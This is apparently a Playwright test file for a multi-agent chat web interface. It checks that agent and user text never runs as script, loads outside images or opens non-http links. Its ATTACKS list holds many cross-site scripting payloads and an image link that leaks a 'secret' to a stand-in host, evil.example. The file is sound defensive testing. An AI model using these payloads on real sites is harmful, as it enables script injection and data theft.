"""Nothing that anybody writes ever runs or leaves the page (defences of facts/product, P21, P36)."""

import pytest
from playwright.async_api import expect

from agents.log.events import Asked, Joined, Opened, Said, Stopped, Summarised, ToolCalled, ToolReturned
from agents.log.files import FileRef
from agents.log.participants import Profile
from tests.browser.conftest import Visit
from tests.browser.house import CODER, PLANNER, RUNNER, Played

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="package")]

ATTACKS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "<svg onload=window.pwned=1>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[click](vbscript:x) [click](file:///etc/passwd) [click](blob:x)",
    '<javascript:window.pwned=1> <https://a.example/"onmouseover="window.pwned=1>',
    "![leak](https://evil.example/?q=secret)",
    "https://a.example/'onclick='window.pwned=1",
    '```html"onmouseover="window.pwned=1\n<script>window.pwned = 1</script>\n```',
    "`<img src=x onerror=window.pwned=1>`",
    "| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |",
    "# <iframe srcdoc='<script>parent.pwned=1</script>'>",
    "- [ ] <input autofocus onfocus=window.pwned=1>",
    "\u202egnp.exe \u0000 \ufeff",
    "@<script>window.pwned=1</script>",
    "<style>body{display:none}</style><base href='https://evil.example/'>",
)


async def test_p36_nothing_that_is_written_anywhere_runs(visit: Visit) -> None:
    evil = "<img src=x onerror='window.pwned=1'>"
    house = Played(
        faces=(
            Profile(id=PLANNER, name=evil, role=evil, avatar="javascript:window.pwned=1"),
            Profile(id=CODER, name="c"),
        ),
        samples=(evil,),
    )
    house.notices.put("n", f"{evil} `{evil}` https://a.example/{evil}", level="warning")
    person = f"person:web/{evil}"
    await house.happens(Joined(participant=person, name=evil, role=evil, avatar=evil))
    for attack in ATTACKS:
        await house.says(person, attack)
        await house.turn(PLANNER, Said(text=attack, thoughts=attack), reason=attack)
    file = FileRef(sha256="0" * 64, name=evil, media_type="text/html", size=1)
    fake = FileRef(sha256="1" * 64, name=evil, media_type="image/svg+xml", size=1)
    await house.turn(CODER, Said(text="", files=(file, fake)))
    await house.turn(RUNNER, *await house.ran(evil, evil, file))
    await house.turn(
        RUNNER, ToolCalled(call="c", tool=evil, arguments=evil),
        ToolReturned(call="c", output=evil, exit_code=None, files=(file,), failed=True),
    )  # fmt: skip
    await house.happens(Asked(text=evil, options=(evil, "javascript:1"), of=(person,)), by=PLANNER)
    for event in (Opened(child=evil, task=evil), Summarised(upto=1, text=evil), Stopped(reason=evil)):
        await house.happens(event)
    tab = await visit(house, name="Ana")
    for pane in ("floor", "budget", "people"):
        await tab.page.locator(f"[data-pane={pane}]").click()
        await expect(tab.page.locator("#pane-body")).to_contain_text("onerror")
    for button in await tab.page.locator(".message .tools button").all():
        if "Why" in (await button.get_attribute("aria-label") or ""):
            await button.dispatch_event("click")
    turn = await house.starts(PLANNER, reason=evil)
    for attack in ATTACKS:
        await house.writes(PLANNER, turn, attack)
    await expect(tab.page.locator("#live")).to_contain_text("<style>")
    assert await tab.find("window.pwned") is None
    assert await tab.find("document.querySelectorAll('main script, main iframe, main style, main base').length") == 0
    sources = await tab.find("[...document.querySelectorAll('img')].map((one) => one.getAttribute('src'))")
    assert sources == ["/static/icon.svg"]
    hrefs = await tab.find("[...document.querySelectorAll('main a')].map((one) => one.href.split(':')[0])")
    assert set(hrefs) <= {"https", "http"}
    assert await tab.find(
        "[...document.querySelectorAll('*')].every((e) => [...e.attributes].every((one) => !one.name.startsWith('on')))"
    )


async def test_p21_a_picture_in_a_text_is_a_link_and_nothing_is_fetched_from_outside(visit: Visit) -> None:
    house = Played()
    tab = await visit(house)
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    await house.says("person:web/ben", "![leak](https://evil.example/?q=secret) https://evil.example/preview")
    await expect(tab.messages.get_by_role("link", name="leak")).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert all(url.startswith(tab.address) for url in asked)


async def test_p36_html_cannot_be_parsed_into_the_page_at_all(visit: Visit) -> None:
    tab = await visit(Played())
    refused = await tab.find(
        "(() => { try { document.body.innerHTML = '<b>x</b>'; return false; } catch { return true; } })()"
    )
    assert refused
    tab.problems.clear()


async def test_p24_a_file_that_looks_like_a_page_is_saved_and_not_opened(visit: Visit) -> None:
    house = Played()
    file = await house.keeps(b"<script>alert(1)</script>", "page.html", "text/html")
    await house.turn(CODER, Said(text="", files=(file,)))
    tab = await visit(house)
    async with tab.page.expect_download() as download:
        await tab.page.get_by_role("link", name="page.html").click()
    assert (await download.value).suggested_filename == "page.html"
